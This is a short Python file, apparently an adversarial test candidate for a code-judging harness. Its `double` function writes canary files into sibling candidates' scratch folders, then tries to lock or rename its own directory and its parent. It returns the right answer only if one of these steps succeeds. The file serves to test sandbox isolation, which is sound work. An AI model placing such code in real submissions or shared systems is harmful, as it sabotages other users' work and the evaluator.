"""Writes into the scratch folders of the candidates before and after it, and makes its own unusable."""
import os


def double(x):
    here, hit = os.getcwd(), 0
    for i in range(100):
        path = os.path.join(here, "..", str(i))
        if os.path.realpath(path) == here:
            continue
        for attempt in (lambda: os.mkdir(path), lambda: open(os.path.join(path, "judge_canary"), "w").close()):
            try:
                attempt()
                hit += 1
            except OSError:
                pass
    for change in (lambda: os.chmod(here, 0), lambda: os.rename(here, here + "x"), lambda: os.chmod("..", 0)):
        try:
            change()
            hit += 1
        except OSError:
            pass
    return x + x if hit else 0 * x
